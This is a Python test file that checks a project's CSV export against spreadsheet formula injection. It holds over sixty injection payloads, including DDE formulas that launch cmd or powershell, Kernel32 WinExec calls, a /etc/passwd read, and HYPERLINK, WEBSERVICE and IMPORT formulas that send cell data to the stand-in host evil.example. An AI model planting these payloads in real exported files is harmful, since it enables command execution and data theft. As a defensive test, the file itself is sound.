"""Promise 29: whatever people write, a spreadsheet that opens our CSV runs nothing."""

import csv
import re
import unicodedata
from io import StringIO
from itertools import product

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.desk.sheets import read_sheet, sheet

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
BEFORE = ("", " ", "\t", "\n", "\u00a0", "\u3000", "\ufeff", "\u200b", '"', "x;", "x\t", "x\n")
ATTACKS = (
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=powershell|'-nop -w hidden -c calc'!_xlbgnm.A1",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "= cmd|'/c calc.exe'!A",
    "=\n1+cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?leak="&A1&A2,"Error: click")',
    '=HYPERLINK("mailto:evil@evil.example","report")',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTDATA("https://evil.example")',
    '=IMPORTFEED("https://evil.example")',
    '=IMPORTHTML("https://evil.example","table",1)',
    '=IMPORTRANGE("https://evil.example","A1:Z9")',
    '=IMAGE("https://evil.example/"&A1)',
    '=FILTERXML(WEBSERVICE("https://evil.example"),"//x")',
    '=INDIRECT("A1")',
    "='file:///etc/passwd'#$passwd.A1",
    '=CELL("filename")',
    '=INFO("directory")',
    '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    '=REGISTER.ID("Kernel32","WinExec")',
    '=EXEC("calc")',
    "=SUM(1+1)",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "-A1",
    "+A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u2212A1",
    "\ufe66SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x0b=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x01=1+1",
    '"=1+1"',
    '"",=1+1',
    'a";=1+1;"',
    "a;=cmd|'/C calc'!A0",
    "a; +cmd|'/C calc'!A0;",
    'a;"=HYPERLINK(""https://evil.example"")"',
    "a\n=cmd|'/C calc'!A0",
    "a\r\n=cmd|'/C calc'!A0",
    "a\t=cmd|'/C calc'!A0",
    "';=1+1",
    "\ud800=1+1",
)
UNSEEN = re.compile(r"[\s\"\x00-\x1f\x7f-\x9f\xad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]+")
CELLS = st.builds(
    "".join,
    st.tuples(
        st.sampled_from(BEFORE),
        st.sampled_from(SIGNS),
        st.text(st.sampled_from("=+-@＝\t\r\n ;,'\"|!A1(") | st.characters(), max_size=30),
    ),
)


def begins_a_formula(cell: str) -> bool:
    """Tell whether a spreadsheet may take a cell for a formula, in its least careful reading."""
    seen = UNSEEN.sub("", cell)
    return cell[:1] in {"\t", "\r"} or unicodedata.normalize("NFKC", seen[:1]) in set("=+-@\u2212")


def assert_opens_safely(cells: list[str]) -> None:
    made = sheet(cells, [cells, cells])
    text = made.decode("utf-8-sig")
    rows = list(csv.reader(StringIO(text, newline=""), strict=True))
    assert [len(row) for row in rows] == [len(cells)] * 3
    assert not [cell for row in rows for cell in row if begins_a_formula(cell)]
    parts = [part for row in rows for cell in row for part in re.split(r"[;\t\r\n]", cell)]
    assert not [part for part in parts if begins_a_formula(part)]
    kept = [re.sub("[\x00\ud800-\udfff]", "\ufffd", cell) for cell in cells]
    assert read_sheet(made) == [kept] * 3


def test_promise_29_at_least_sixty_attacks_are_known() -> None:
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("attack", ATTACKS)
def test_promise_29_a_known_attack_is_text_to_a_spreadsheet(attack: str) -> None:
    assert_opens_safely([attack])
    assert_opens_safely(["1", attack, attack])


@pytest.mark.parametrize("pair", list(product(BEFORE, SIGNS)))
def test_promise_29_no_cell_begins_a_formula_whatever_stands_before(pair: tuple[str, str]) -> None:
    assert_opens_safely([f"{''.join(pair)}1+1"])


@settings(max_examples=1_000)
@given(cells=st.lists(CELLS, min_size=1, max_size=4))
def test_promise_29_generated_cells_open_safely_and_are_read_back_equal(cells: list[str]) -> None:
    assert_opens_safely(cells)
